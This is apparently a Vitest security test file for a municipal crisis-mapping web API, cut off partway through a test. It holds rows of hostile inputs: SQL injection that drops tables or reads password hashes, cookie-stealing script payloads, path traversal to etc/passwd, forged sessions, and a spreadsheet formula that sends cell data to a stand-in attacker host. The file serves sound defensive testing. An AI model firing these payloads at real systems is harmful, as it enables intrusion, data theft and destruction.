/**
 * Bad and hostile input. Every kind of bad input below is one row with a
 * name; each must be answered with a 4xx in the contract's error shape that gives away no stack
 * trace or SQL, and after the whole table every table of stored data must be exactly as before.
 */
import { sql } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { GEOJSON_LIMITS } from '../common/geojson.ts'
import type { Database } from '../db/client.ts'
import { openTestDatabase, TEST_DEMO_PASSWORD, TEST_KOMMUN } from '../db/testing/test-database.ts'
import { createApp, MAX_BODY_BYTES } from './app.ts'
import { SESSION_COOKIE, startSession } from './auth/accounts.ts'
import { createRateLimits } from './http/security.ts'
import { UNUSED_UUID } from './testing/app-routes.ts'
import { expectContractError } from './testing/contract-error.ts'
import { signIn } from './testing/sign-in.ts'
import { tableChecksums } from './testing/table-checksums.ts'

const users = ['admin', 'krisledare', 'analytiker', 'polis', 'planerare', 'lasare'] as const
type User = (typeof users)[number]

let db: Database
let app: ReturnType<typeof createApp>
const cookies = {} as Record<User, string>
/** The viewer's account id, a target for the administrators' routes. */
let viewerId: string
let checksumsBefore: Record<string, string>
/** What the app logged as unexpected: a refused input must never be one. */
const unexpected: unknown[] = []

beforeAll(async () => {
  db = await openTestDatabase()
  app = createApp({
    db,
    config: { kommun: TEST_KOMMUN },
    limits: createRateLimits(),
    log: (err) => unexpected.push(err),
  })
  for (const user of users) cookies[user] = await signIn(app, user)
  const [row] = await db.query<{ id: string }>(
    sql`SELECT id::text AS id FROM users WHERE username = 'lasare'`,
  )
  viewerId = row!.id
  const [centre] = await db.query<{ x: number; y: number }>(
    sql`SELECT ST_X(p) AS x, ST_Y(p) AS y
      FROM (SELECT ST_PointOnSurface(geom) AS p FROM areas WHERE kind = 'municipality' LIMIT 1) m`,
  )
  inside = [Number(Number(centre!.x).toFixed(6)), Number(Number(centre!.y).toFixed(6))]
  const [someSite] = await db.query<{ id: string }>(
    sql`SELECT id::text AS id FROM hazard_sites ORDER BY id LIMIT 1`,
  )
  siteId = someSite!.id
  checksumsBefore = await tableChecksums(db)
})

afterAll(async () => {
  await db?.close()
})

interface BadInput {
  name: string
  /** Who sends it: a demo user, or nobody (no cookie). */
  as?: User
  method?: 'GET' | 'POST' | 'PATCH' | 'DELETE' | 'PUT'
  path: string | (() => string)
  headers?: Record<string, string> | (() => Record<string, string>)
  /** An object is sent as JSON; a string or bytes as they are; a function is called first. */
  body?: unknown
  status: number
  code?: string
  /** What the message must say, where the reason matters more than the status. */
  message?: RegExp
  /** Requests to make first (with the same app), for rows about what follows them. */
  before?: number
  /** Another app, for rows about rate limits. */
  app?: () => ReturnType<typeof createApp>
}

const json = { 'content-type': 'application/json' }
const sqlInjection = "' OR '1'='1'; DROP TABLE users; --"
const unionInjection = "x' UNION SELECT password_hash FROM users --"
const script = '<script>alert(document.cookie)</script>'
const huge = (n: number) => 'x'.repeat(n)
const login = (username: unknown, password: unknown = TEST_DEMO_PASSWORD) => ({
  method: 'POST' as const,
  path: '/api/auth/login',
  headers: json,
  body: { username, password },
})
const newUser = (fields: Record<string, unknown>) => ({
  method: 'POST' as const,
  path: '/api/users',
  headers: json,
  as: 'admin' as const,
  body: {
    username: 'nyanvandare',
    displayName: 'Ny Användare',
    role: 'viewer',
    password: 'a long enough password',
    ...fields,
  },
})
const changeViewer = (body: unknown) => ({
  method: 'PATCH' as const,
  path: () => `/api/users/${viewerId}`,
  headers: json,
  as: 'admin' as const,
  body,
})
const features = (query: string) => ({
  as: 'krisledare' as const,
  path: `/api/layers/incidents/features?${query}`,
})
const tile = (address: string) => ({ as: 'krisledare' as const, path: `/tiles/${address}` })
const sessionCookie = (value: string) => ({ cookie: `${SESSION_COOKIE}=${value}` })

/** A point in the middle of the demo municipality, where new objects may lie. */
let inside: [number, number]
/** A small closed ring around `inside`, `d` degrees across. */
const ringAround = (d = 0.01): number[][] => {
  const [x, y] = inside
  return [
    [x, y],
    [x + d, y],
    [x + d, y + d],
    [x, y + d],
    [x, y],
  ]
}
/** A new object for a layer, by the analyst (who may edit every hazard layer). */
const create = (layer: string, feature: () => unknown, as: User = 'analytiker') => ({
  as,
  method: 'POST' as const,
  path: `/api/layers/${layer}/features`,
  headers: json,
  body: feature,
})
const zone = (geometry: () => unknown) =>
  create('hazard-zones', () => ({
    type: 'Feature',
    geometry: geometry(),
    properties: { name: 'Testzon', kind: 'seveso_consultation' },
  }))
const polygon = (coordinates: () => unknown) => zone(() => ({ type: 'Polygon', coordinates: coordinates() }))
const site =
  (properties: Record<string, unknown> = {}, geometry?: () => unknown) =>
  () => ({
    type: 'Feature',
    geometry: geometry ? geometry() : { type: 'Point', coordinates: inside },
    properties: { name: 'Testmacken', kind: 'petrol_station', ...properties },
  })
/** A change to an existing hazard site, found in `beforeAll`. */
let siteId: string
const changeSite = (body: unknown, as: User = 'analytiker') => ({
  as,
  method: 'PATCH' as const,
  path: () => `/api/layers/hazard-sites/features/${siteId}`,
  headers: json,
  body,
})

const badInputs: BadInput[] = [
  // Wrong types
  { name: 'number for a username', ...login(12345), status: 400 },
  { name: 'object for a password', ...login('admin', { $ne: '' }), status: 400 },
  { name: 'unknown role', ...newUser({ role: 'superuser' }), status: 400 },
  { name: 'string for a boolean', ...changeViewer({ disabled: 'yes' }), status: 400 },
  { name: 'number for an organisation id', ...newUser({ organisationId: 123 }), status: 400 },
  { name: 'array for a display name', ...changeViewer({ displayName: ['a', 'b'] }), status: 400 },
  // Missing fields
  { name: 'sign-in without a password', ...login('admin'), body: { username: 'admin' }, status: 400 },
  { name: 'new user without a role', ...newUser({ role: undefined }), status: 400 },
  { name: 'change naming nothing', ...changeViewer({}), status: 400 },
  {
    name: 'password reset without a password',
    ...changeViewer({}),
    path: () => `/api/users/${viewerId}/password`,
    method: 'POST',
    status: 400,
  },
  // Extra fields
  { name: 'unknown field in a change', ...changeViewer({ passwordHash: 'x' }), status: 400 },
  {
    name: 'mass assignment in a change',
    ...changeViewer({ role: 'viewer', updatedBy: 'someone' }),
    status: 400,
  },
  {
    name: 'mass assignment in a new user',
    ...newUser({ createdBy: 'system', disabled: false }),
    status: 400,
  },
  // Oversize
  {
    name: 'body over 1 MB',
    ...newUser({ displayName: huge(MAX_BODY_BYTES + 10) }),
    status: 413,
    code: 'payload_too_large',
  },
  {
    name: 'sign-in body over 1 MB',
    ...login(huge(MAX_BODY_BYTES + 10)),
    status: 413,
    code: 'payload_too_large',
  },
  {
    name: 'huge display name under the body limit',
    ...changeViewer({ displayName: huge(100_000) }),
    status: 400,
  },
  { name: 'huge username', ...login(huge(10_000)), status: 400 },
  { name: 'huge password', ...login('admin', huge(100_000)), status: 400 },
  { name: 'huge search text', as: 'lasare', path: `/api/search?q=${huge(5000)}`, status: 400 },
  { name: 'huge layer id', as: 'lasare', path: `/api/layers/${huge(5000)}/features`, status: 400 },
  // Unicode and NUL
  { name: 'NUL in a username', ...login('admin\u0000'), status: 400 },
  { name: 'NUL in a password', ...login('admin', `${TEST_DEMO_PASSWORD}\u0000`), status: 400 },
  { name: 'NUL in a display name', ...changeViewer({ displayName: 'Lars\u0000Läsare' }), status: 400 },
  { name: 'NUL in search text', as: 'lasare', path: '/api/search?q=ab%00cd', status: 400 },
  { name: 'NUL in a feature id', as: 'lasare', path: '/api/layers/districts/features/ab%00cd', status: 400 },
  { name: 'NUL in an audit filter', as: 'admin', path: '/api/audit?actor=adm%00in', status: 400 },
  { name: 'lone surrogate in a username', ...login('admin\ud800'), status: 401 },
  { name: 'zero-width space in a new username', ...newUser({ username: 'ad\u200bmin' }), status: 400 },
  { name: 'right-to-left override in a new username', ...newUser({ username: '\u202enimda' }), status: 400 },
  {
    name: 'invalid UTF-8 in a body',
    ...login('admin'),
    body: new Uint8Array([0x7b, 0xff, 0xfe, 0x7d]),
    status: 400,
  },
  // SQL injection, each field
  { name: 'SQL injection in the username', ...login(sqlInjection), status: 401 },
  { name: 'SQL injection in the password', ...login('admin', sqlInjection), status: 401 },
  {
    name: 'SQL injection in a layer id',
    as: 'krisledare',
    path: `/api/layers/${encodeURIComponent(sqlInjection)}/features`,
    status: 404,
  },
  {
    name: 'SQL injection in a feature id',
    as: 'krisledare',
    path: `/api/layers/critical-assets/features/${encodeURIComponent(unionInjection)}`,
    status: 404,
  },
  {
    name: 'SQL injection in bbox',
    ...features(`bbox=${encodeURIComponent('15,58,16,59);DROP TABLE incidents;--')}`),
    status: 400,
  },
  { name: 'SQL injection in limit', ...features('limit=1;DELETE%20FROM%20users'), status: 400 },
  { name: 'SQL injection in offset', ...features(`offset=${encodeURIComponent('0 OR 1=1')}`), status: 400 },
  {
    name: 'SQL injection in category',
    ...features(`category=${encodeURIComponent(unionInjection)}`),
    status: 400,
  },
  {
    name: 'SQL injection in from',
    ...features(`from=${encodeURIComponent("2024-01-01' OR '1'='1")}`),
    status: 400,
  },
  {
    name: 'SQL injection in to',
    ...features(`to=${encodeURIComponent('2024-01-01;DROP TABLE incidents')}`),
    status: 400,
  },
  {
    name: 'SQL injection in a user id',
    ...changeViewer({ role: 'admin' }),
    path: `/api/users/${encodeURIComponent(sqlInjection)}`,
    status: 400,
  },
  { name: 'SQL injection in a new username', ...newUser({ username: sqlInjection }), status: 400 },
  { name: 'SQL injection in a role', ...changeViewer({ role: "admin'--" }), status: 400 },
  {
    name: 'SQL injection in an organisation id',
    ...changeViewer({ organisationId: unionInjection }),
    status: 400,
  },
  {
    name: 'SQL injection in an audit action',
    as: 'admin',
    path: `/api/audit?action=${encodeURIComponent(sqlInjection)}`,
    status: 400,
  },
  {
    name: 'SQL injection in an audit time',
    as: 'admin',
    path: `/api/audit?from=${encodeURIComponent(sqlInjection)}`,
    status: 400,
  },
  {
    name: 'SQL injection in an audit limit',
    as: 'admin',
    path: '/api/audit?limit=1;DELETE%20FROM%20audit_log',
    status: 400,
  },
  {
    name: 'SQL injection in a tile layer',
    as: 'krisledare',
    path: `/tiles/${encodeURIComponent(sqlInjection)}/10/553/300.mvt`,
    status: 404,
  },
  {
    name: 'SQL injection in a tile zoom',
    ...tile(`incidents/${encodeURIComponent('10;DROP TABLE incidents')}/553/300.mvt`),
    status: 400,
  },
  {
    name: 'SQL injection in a search limit',
    as: 'lasare',
    path: `/api/search?q=ab&limit=${encodeURIComponent('5 OR 1=1')}`,
    status: 400,
  },
  // Script injection where the value is refused
  { name: 'script in a new username', ...newUser({ username: script }), status: 400 },
  {
    name: 'script in a layer id',
    as: 'lasare',
    path: `/api/layers/${encodeURIComponent(script)}/features`,
    status: 404,
  },
  { name: 'script in a role', ...changeViewer({ role: script }), status: 400 },
  // Sessions
  {
    name: 'forged session token',
    path: '/api/auth/me',
    headers: sessionCookie('Zm9yZ2VkLXRva2VuLWZvcmdlZC10b2tlbi1mb3JnZWQ'),
    status: 401,
  },
  { name: 'garbled session cookie', path: '/api/layers', headers: sessionCookie('%%%E0%A4%A'), status: 401 },
  { name: 'overlong session cookie', path: '/api/layers', headers: sessionCookie(huge(8000)), status: 401 },
  { name: 'empty session cookie', path: '/api/layers', headers: sessionCookie(''), status: 401 },
  {
    name: 'session cookie of another name',
    path: '/api/layers',
    headers: () => ({ cookie: cookies.admin.replace(SESSION_COOKIE, 'session') }),
    status: 401,
  },
  {
    name: 'stored token hash used as the cookie',
    path: '/api/layers',
    headers: () => ({ cookie: `${SESSION_COOKIE}=${storedTokenHash}` }),
    status: 401,
  },
  { name: 'expired session', path: '/api/layers', headers: () => sessionCookie(expiredToken), status: 401 },
  {
    name: 'signed-out session',
    path: '/api/layers',
    headers: () => sessionCookie(revokedToken),
    status: 401,
  },
  {
    name: 'session cookie with a write but no session',
    method: 'POST',
    path: '/api/users',
    headers: { ...json, ...sessionCookie('x') },
    body: {},
    status: 401,
  },
  // Administrators' routes
  { name: 'viewer lists users', as: 'lasare', path: '/api/users', status: 403, code: 'forbidden' },
  { name: 'crisis manager creates a user', ...newUser({}), as: 'krisledare', status: 403, code: 'forbidden' },
  {
    name: 'police officer changes a role',
    ...changeViewer({ role: 'admin' }),
    as: 'polis',
    status: 403,
    code: 'forbidden',
  },
  {
    name: 'user makes themselves admin',
    ...changeViewer({ role: 'admin' }),
    as: 'lasare',
    status: 403,
    code: 'forbidden',
  },
  {
    name: 'planner ends sessions',
    as: 'planerare',
    method: 'POST',
    path: () => `/api/users/${viewerId}/sessions/revoke`,
    status: 403,
  },
  {
    name: 'analyst resets a password',
    ...changeViewer({ password: 'a long enough password' }),
    method: 'POST',
    path: () => `/api/users/${viewerId}/password`,
    as: 'analytiker',
    status: 403,
  },
  {
    name: 'analyst reads the audit log',
    as: 'analytiker',
    path: '/api/audit',
    status: 403,
    code: 'forbidden',
  },
  {
    name: 'viewer exports the audit log',
    as: 'lasare',
    path: '/api/audit/export',
    status: 403,
    code: 'forbidden',
  },
  // Invalid ids
  {
    name: 'user id that is no UUID',
    ...changeViewer({ role: 'admin' }),
    path: '/api/users/not-a-uuid',
    status: 400,
  },
  {
    name: 'user id with braces',
    ...changeViewer({ role: 'admin' }),
    path: () => `/api/users/{${viewerId}}`,
    status: 400,
  },
  {
    name: 'truncated user id',
    ...changeViewer({ role: 'admin' }),
    path: () => `/api/users/${viewerId.slice(0, 30)}`,
    status: 400,
  },
  {
    name: 'user id that names nobody',
    ...changeViewer({ displayName: 'x' }),
    path: `/api/users/${UNUSED_UUID}`,
    status: 404,
  },
  { name: 'organisation id that is no UUID', ...newUser({ organisationId: 'kommunen' }), status: 400 },
  {
    name: 'organisation id that names nothing',
    ...changeViewer({ organisationId: UNUSED_UUID }),
    status: 400,
  },
  // Path traversal
  {
    name: 'traversal in a layer id',
    as: 'lasare',
    path: '/api/layers/..%2F..%2Fetc%2Fpasswd/features',
    status: 404,
  },
  { name: 'encoded dots as a layer id', as: 'lasare', path: '/api/layers/%2e%2e/features', status: 404 },
  {
    name: 'traversal in a feature id',
    as: 'lasare',
    path: '/api/layers/districts/features/..%2F..%2Fusers',
    status: 404,
  },
  { name: 'traversal in a tile layer', ...tile('..%2F..%2Fetc%2Fpasswd/10/553/300.mvt'), status: 404 },
  { name: 'traversal in a tile name', ...tile('incidents/10/553/..%2F..%2F300.mvt'), status: 400 },
  { name: 'backslash traversal in a tile layer', ...tile('..%5C..%5Cwindows/10/553/300.mvt'), status: 404 },
  { name: 'NUL-terminated tile name', ...tile('basemap/10/553/300.mvt%00.png'), status: 400 },
  // Numbers
  { name: 'NaN in bbox', ...features('bbox=NaN,58,16,59'), status: 400 },
  { name: 'Infinity in bbox', ...features('bbox=15,58,Infinity,59'), status: 400 },
  { name: 'overflowing number in bbox', ...features('bbox=15,58,1e309,59'), status: 400 },
  { name: 'bbox beyond the world', ...features('bbox=-1e10,-1e10,1e10,1e10'), status: 400 },
  { name: 'five numbers in bbox', ...features('bbox=15,58,16,59,60'), status: 400 },
  { name: 'hexadecimal in bbox', ...features('bbox=0xF,58,16,59'), status: 400 },
  { name: 'binary in bbox', ...features('bbox=0b1111,58,16,59'), status: 400 },
  { name: 'negative limit', ...features('limit=-1'), status: 400 },
  { name: 'NaN limit', ...features('limit=NaN'), status: 400 },
  { name: 'overflowing limit', ...features('limit=1e400'), status: 400 },
  { name: 'fractional limit', ...features('limit=1.5'), status: 400 },
  { name: 'huge offset', ...features('offset=99999999999999999999'), status: 400 },
  { name: 'negative offset', ...features('offset=-10'), status: 400 },
  { name: 'zoom beyond 22', ...tile('incidents/99/0/0.mvt'), status: 400 },
  { name: 'negative tile column', ...tile('incidents/10/-5/300.mvt'), status: 400 },
  { name: 'tile column beyond 2^z', ...tile('incidents/10/1024/300.mvt'), status: 400 },
  { name: 'tile row beyond 2^z', ...tile('incidents/3/0/8.mvt'), status: 400 },
  { name: 'NaN tile row', ...tile('incidents/10/553/NaN.mvt'), status: 400 },
  { name: 'exponent as a zoom', ...tile('incidents/1e1/553/300.mvt'), status: 400 },
  { name: 'huge tile column', ...tile('incidents/22/99999999999/0.mvt'), status: 400 },
  { name: 'audit page of zero', as: 'admin', path: '/api/audit?limit=0', status: 400 },
  { name: 'audit page too long', as: 'admin', path: '/api/audit?limit=100000', status: 400 },
  { name: 'negative audit offset', as: 'admin', path: '/api/audit?offset=-1', status: 400 },
  { name: 'search limit of zero', as: 'lasare', path: '/api/search?q=ab&limit=0', status: 400 },
  // GeoJSON, malformed and hostile
  {
    name: 'a FeatureCollection for a Feature',
    ...create('hazard-sites', () => ({ type: 'FeatureCollection', features: [site()()] })),
    status: 400,
  },
  {
    name: 'a bare geometry for a Feature',
    ...create('hazard-sites', () => ({ type: 'Point', coordinates: inside })),
    status: 400,
  },
  {
    name: 'unknown geometry type',
    ...create(
      'hazard-sites',
      site({}, () => ({ type: 'Circle', coordinates: inside, radius: 10 })),
    ),
    status: 400,
  },
  {
    name: 'feature without a geometry',
    ...create('hazard-sites', () => ({ type: 'Feature', properties: { name: 'x', kind: 'petrol_station' } })),
    status: 400,
  },
  {
    name: 'feature with a null geometry',
    ...create(
      'hazard-sites',
      site({}, () => null),
    ),
    status: 400,
  },
  {
    name: 'feature without properties',
    ...create('hazard-sites', () => ({ type: 'Feature', geometry: { type: 'Point', coordinates: inside } })),
    status: 400,
  },
  {
    name: 'feature choosing its own id',
    ...create('hazard-sites', () => ({ ...site()(), id: UNUSED_UUID })),
    status: 400,
  },
  {
    name: 'longitude out of range',
    ...create(
      'hazard-sites',
      site({}, () => ({ type: 'Point', coordinates: [200, 58] })),
    ),
    status: 400,
  },
  {
    name: 'latitude out of range',
    ...create(
      'hazard-sites',
      site({}, () => ({ type: 'Point', coordinates: [16, -95] })),
    ),
    status: 400,
  },
  {
    name: 'latitude and longitude swapped',
    ...create(
      'hazard-sites',
      site({}, () => ({ type: 'Point', coordinates: [inside[1], inside[0]] })),
    ),
    status: 400,
  },
  {
    name: 'coordinates as strings',
    ...create(
      'hazard-sites',
      site({}, () => ({ type: 'Point', coordinates: [String(inside[0]), String(inside[1])] })),
    ),
    status: 400,
  },
  {
    name: 'a point without coordinates',
    ...create(
      'hazard-sites',
      site({}, () => ({ type: 'Point', coordinates: [] })),
    ),
    status: 400,
  },
  {
    name: 'a position of four numbers',
    ...create(
      'hazard-sites',
      site({}, () => ({ type: 'Point', coordinates: [...inside, 0, 0] })),
    ),
    status: 400,
  },
  {
    name: 'NaN as a coordinate',
    ...create(
      'hazard-sites',
      () =>
        '{"type":"Feature","geometry":{"type":"Point","coordinates":[NaN,58]},"properties":{"name":"x","kind":"petrol_station"}}',
    ),
    status: 400,
  },
  {
    name: 'Infinity as a coordinate',
    ...create(
      'hazard-sites',
      () =>
        '{"type":"Feature","geometry":{"type":"Point","coordinates":[1e999,58]},"properties":{"name":"x","kind":"petrol_station"}}',
    ),
    status: 400,
  },
  { name: 'unclosed ring', ...polygon(() => [ringAround().slice(0, 4)]), status: 400, message: /not closed/ },
  {
    name: 'ring of three positions',
    ...polygon(() => [[...ringAround().slice(0, 2), ringAround()[0]]]),
    status: 400,
    message: /four positions/,
  },
  { name: 'polygon without rings', ...polygon(() => []), status: 400 },
  {
    name: 'self-intersecting polygon',
    ...polygon(() => {
      const [a, b, c, d] = ringAround()
      return [[a, c, b, d, a]]
    }),
    status: 400,
    message: /Self-intersection/,
  },
  {
    name: 'more vertices than allowed',
    ...polygon(() => [Array.from({ length: GEOJSON_LIMITS.maxVertices + 1 }, () => [16, 58])]),
    status: 400,
    message: /vertices/,
  },
  {
    name: 'nested geometry collections',
    ...zone(() => ({
      type: 'GeometryCollection',
      geometries: [
        { type: 'GeometryCollection', geometries: [{ type: 'Polygon', coordinates: [ringAround()] }] },
      ],
    })),
    status: 400,
  },
  {
    name: 'a point for a polygon layer',
    ...zone(() => ({ type: 'Point', coordinates: inside })),
    status: 400,
    message: /takes MultiPolygon or Polygon/,
  },
  {
    name: 'a polygon for a point layer',
    ...create(
      'hazard-sites',
      site({}, () => ({ type: 'Polygon', coordinates: [ringAround()] })),
    ),
    status: 400,
    message: /takes Point/,
  },
  {
    name: 'a geometry far from the municipality',
    ...create(
      'hazard-sites',
      site({}, () => ({ type: 'Point', coordinates: [inside[0] + 5, inside[1] - 5] })),
    ),
    status: 400,
    message: /outside the municipality/,
  },
  { name: 'an unknown property', ...create('hazard-sites', site({ createdBy: 'someone' })), status: 400 },
  { name: 'a property of the wrong type', ...create('hazard-sites', site({ name: 42 })), status: 400 },
  { name: 'a missing required property', ...create('hazard-sites', site({ kind: undefined })), status: 400 },
  { name: 'a huge property', ...create('hazard-sites', site({ operator: huge(100_000) })), status: 400 },
  {
    name: 'NUL in a property',
    ...create('hazard-sites', site({ name: 'Test\u0000macken' })),
    status: 400,
    message: /NUL/,
  },
  {
    name: 'SQL injection in a property enum',
    ...create('hazard-sites', site({ kind: sqlInjection })),
    status: 400,
  },
  {
    name: 'an unknown classification',
    ...create('hazard-sites', site({ classification: 'top-secret' })),
    status: 400,
  },
  {
    name: 'a classification below the layer',
    ...create('hazard-sites', site({ classification: 'open' })),
    status: 400,
    message: /too low/,
  },
  {
    name: 'an incident at a time that is no time',
    ...create(
      'incidents',
      () => ({
        type: 'Feature',
        geometry: { type: 'Point', coordinates: inside },
        properties: { category: 'vandalism', source: 'police', occurredAt: 'last night' },
      }),
      'polis',
    ),
    status: 400,
  },
  { name: 'a change naming nothing', ...changeSite({}), status: 400 },
  {
    name: 'a change with an unknown field',
    ...changeSite({ properties: { name: 'x' }, type: 'Feature' }),
    status: 400,
  },
  {
    name: 'a change moving a point to a polygon',
    ...changeSite({ geometry: { type: 'Polygon', coordinates: [] } }),
    status: 400,
  },
  {
    name: 'a change of a feature id that is no UUID',
    ...changeSite({ properties: { name: 'x' } }),
    path: `/api/layers/hazard-sites/features/${encodeURIComponent(sqlInjection)}`,
    status: 400,
  },
  {
    name: 'a change of a feature that does not exist',
    ...changeSite({ properties: { name: 'x' } }),
    path: `/api/layers/hazard-sites/features/${UNUSED_UUID}`,
    status: 404,
  },
  {
    name: 'deleting a feature that does not exist',
    as: 'analytiker',
    method: 'DELETE',
    path: `/api/layers/hazard-sites/features/${UNUSED_UUID}`,
    status: 404,
  },
  // Writing without the right to
  {
    name: 'the viewer creates an object',
    ...create('hazard-sites', site(), 'lasare'),
    status: 403,
    code: 'forbidden',
  },
  {
    name: 'the planner changes a hazard site',
    ...changeSite({ properties: { name: 'x' } }, 'planerare'),
    status: 403,
    code: 'forbidden',
  },
  {
    name: 'the police delete a hazard site',
    as: 'polis',
    method: 'DELETE',
    path: () => `/api/layers/hazard-sites/features/${siteId}`,
    status: 403,
    code: 'forbidden',
  },
  {
    name: 'the crisis manager edits a hazard layer',
    ...create('hazard-zones', site(), 'krisledare'),
    status: 403,
    code: 'forbidden',
  },
  {
    name: 'the administrator edits a layer no one edits',
    ...create('districts', site(), 'admin'),
    status: 403,
    code: 'forbidden',
  },
  {
    name: 'the viewer creates an incident it cannot see',
    ...create('incidents', site(), 'lasare'),
    status: 404,
  },
  { name: 'editing a layer that does not exist', ...create('no-such-layer', site()), status: 404 },
  { name: 'a write by PUT', ...changeSite({ properties: { name: 'x' } }), method: 'PUT', status: 404 },
  // Exports
  {
    name: 'export in an unknown format',
    as: 'krisledare',
    path: '/api/layers/critical-assets/export?format=xlsx',
    status: 400,
  },
  {
    name: 'export with a bad box',
    as: 'krisledare',
    path: '/api/layers/critical-assets/export?bbox=1,2,3',
    status: 400,
  },
  {
    name: 'export of an internal layer by the viewer',
    as: 'lasare',
    path: '/api/layers/critical-assets/export',
    status: 403,
    code: 'forbidden',
  },
  {
    name: 'export of a restricted layer by the viewer',
    as: 'lasare',
    path: '/api/layers/incidents/export',
    status: 404,
  },
  { name: 'export by traversal', as: 'krisledare', path: '/api/layers/..%2Fusers/export', status: 404 },
  // Crisis sessions
  {
    name: 'a crisis session without a title',
    as: 'krisledare',
    method: 'POST',
    path: '/api/sessions',
    headers: json,
    body: { eventType: 'fire' },
    status: 400,
  },
  {
    name: 'a crisis session by the viewer',
    as: 'lasare',
    method: 'POST',
    path: '/api/sessions',
    headers: json,
    body: { title: 'Brand' },
    status: 403,
    code: 'forbidden',
  },
  {
    name: 'a crisis session with SQL in its escalation level',
    as: 'krisledare',
    method: 'POST',
    path: '/api/sessions',
    headers: json,
    body: { title: 'Brand', escalationLevel: "normal'; DROP TABLE crisis_sessions; --" },
    status: 400,
  },
  {
    name: 'a crisis session with a self-intersecting area',
    as: 'krisledare',
    method: 'POST',
    path: '/api/sessions',
    headers: json,
    body: () => ({
      title: 'Brand',
      affectedArea: {
        type: 'Polygon',
        coordinates: [
          [
            inside,
            [inside[0] + 0.01, inside[1] + 0.01],
            [inside[0] + 0.01, inside[1]],
            [inside[0], inside[1] + 0.01],
            inside,
          ],
        ],
      },
    }),
    status: 400,
  },
  {
    name: 'a change of a crisis session that does not exist',
    as: 'krisledare',
    method: 'PATCH',
    path: `/api/sessions/${UNUSED_UUID}`,
    headers: json,
    body: { title: 'x' },
    status: 404,
  },
  {
    name: 'a crisis session id by traversal',
    as: 'krisledare',
    path: '/api/sessions/..%2Fusers/history',
    status: 400,
  },
  {
    name: 'a crisis session export at a seq that is no number',
    as: 'krisledare',
    path: `/api/sessions/${UNUSED_UUID}/export?seq=1e3`,
    status: 400,
  },
  // Timestamps
  { name: 'a word for a time', ...features('from=yesterday'), status: 400 },
  { name: 'thirteenth month', ...features('from=2024-13-01'), status: 400 },
  { name: 'hour 25', ...features('from=2024-01-01T25:00:00Z'), status: 400 },
  { name: 'time range backwards', ...features('from=2025-01-01&to=2024-01-01'), status: 400 },
  { name: 'unix seconds for a time', ...features('from=1700000000'), status: 400 },
  { name: 'five-digit year', ...features('to=20245-01-01'), status: 400 },
  {
    name: 'audit time without a zone',
    as: 'admin',
    path: '/api/audit?from=2024-01-01T00:00:00',
    status: 400,
  },
  {
    name: 'year zero in an audit filter',
    as: 'admin',
    path: '/api/audit?from=0000-01-01T00:00:00Z',
    status: 400,
  },
  {
    name: 'year zero in an audit export',
    as: 'admin',
    path: '/api/audit/export?format=json&to=0000-06-01T00:00:00Z',
    status: 400,
  },
  {
    name: 'audit date that does not exist',
    as: 'admin',
    path: '/api/audit?from=2023-02-29T00:00:00Z',
    status: 400,
  },
  { name: 'tile filter time that is no time', ...tile('incidents/10/553/300.mvt?from=soon'), status: 400 },
]

/** Set in `beforeAll` of the table: tokens of sessions that ended, and what the database keeps of a live one. */
let expiredToken: string
let revokedToken: string
let storedTokenHash: string

const bodyOf = (given: unknown): BodyInit | undefined => {
  const body = typeof given === 'function' ? given() : given
  return body === undefined
    ? undefined
    : typeof body === 'string' || body instanceof Uint8Array
      ? (body as BodyInit)
      : JSON.stringify(body)
}

/** The strings of the request a message may quote back: path segments, query values, body strings. */
function echoesOf(path: string, given: unknown): string[] {
  const body = typeof given === 'function' ? given() : given
  const url = new URL(path, 'http://localhost')
  const decode = (s: string) => {
    try {
      return decodeURIComponent(s)
    } catch {
      return s
    }
  }
  const strings = (v: unknown): string[] =>
    typeof v === 'string' ? [v] : v && typeof v === 'object' ? Object.values(v).flatMap(strings) : []
  return [
    ...url.pathname.split('/').map(decode),
    ...[...url.searchParams.values()],
    ...(body instanceof Uint8Array ? [] : strings(body)),
  ].filter((s) => s.length > 2)
}

async function send(row: BadInput, target: ReturnType<typeof createApp>): Promise<Response> {
  const path = typeof row.path === 'function' ? row.path() : row.path
  const headers = {
    ...(row.as ? { cookie: cookies[row.as] } : {}),
    ...(typeof row.headers === 'function' ? row.headers() : row.headers),
  }
  return target.request(path, { method: row.method ?? 'GET', headers, body: bodyOf(row.body) })
}

describe('bad input gets a 4xx in the contract shape and changes nothing', () => {
  beforeAll(async () => {
    const [viewer] = await db.query<{ id: string }>(
      sql`SELECT id::text AS id FROM users WHERE username = 'planerare'`,
    )
    expiredToken = (await startSession(db.orm, viewer!.id, 'test', -1)).token
    const signedOut = await signIn(app, 'planerare')
    revokedToken = signedOut.slice(SESSION_COOKIE.length + 1)
    expect(
      (await app.request('/api/auth/logout', { method: 'POST', headers: { cookie: signedOut } })).status,
    ).toBe(204)
    const [live] = await db.query<{ token_hash: string }>(
      sql`SELECT token_hash FROM user_sessions WHERE revoked_at IS NULL AND expires_at > now() LIMIT 1`,
    )
    storedTokenHash = live!.token_hash
  })

  it('has at least 40 kinds, each named once', () => {
    const names = badInputs.map((r) => r.name)
    expect(new Set(names).size).toBe(names.length)
    expect(names.length).toBeGreaterThanOrEqual(40)
  })

  it.each(badInputs.map((row) => [row.name, row] as const))('%s', async (_, row) => {
    const target = row.app?.() ?? app
    for (let i = 0; i < (row.before ?? 0); i++) await send(row, target)
    const res = await send(row, target)
    const path = typeof row.path === 'function' ? row.path() : row.path
    const error = await expectContractError(res, row.status, {
      what: row.name,
      echoes: echoesOf(path, row.body),
    })
    if (row.code) expect(error.code).toBe(row.code)
    if (row.message) expect(error.message).toMatch(row.message)
    if (row.status === 429) expect(Number(res.headers.get('retry-after'))).toBeGreaterThan(0)
  })

  it('leaves every table of stored data exactly as it was', async () => {
    expect(await tableChecksums(db)).toEqual(checksumsBefore)
  })

  it('met no input it did not expect', () => {
    expect(unexpected.map(String)).toEqual([])
  })
})

describe('hostile text that is valid is stored and answered as inert text', () => {
  const hostileName = `<img src=x onerror=alert(1)> ${script} '; DROP TABLE hazard_sites; --`
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'

  it('keeps a display name with markup, SQL and unusual characters exactly, as a JSON string', async () => {
    const displayName = `${script} Ro\u0308d 🚒 \u202eemos\u202c ${sqlInjection}`
    const res = await send(
      {
        ...newUser({ username: `hostile-${Date.now().toString(36)}`, displayName }),
        status: 201,
        name: 'hostile display name',
      },
      app,
    )
    expect(res.status).toBe(201)
    expect(res.headers.get('content-type')).toMatch(/^application\/json/)
    expect(res.headers.get('x-content-type-options')).toBe('nosniff')
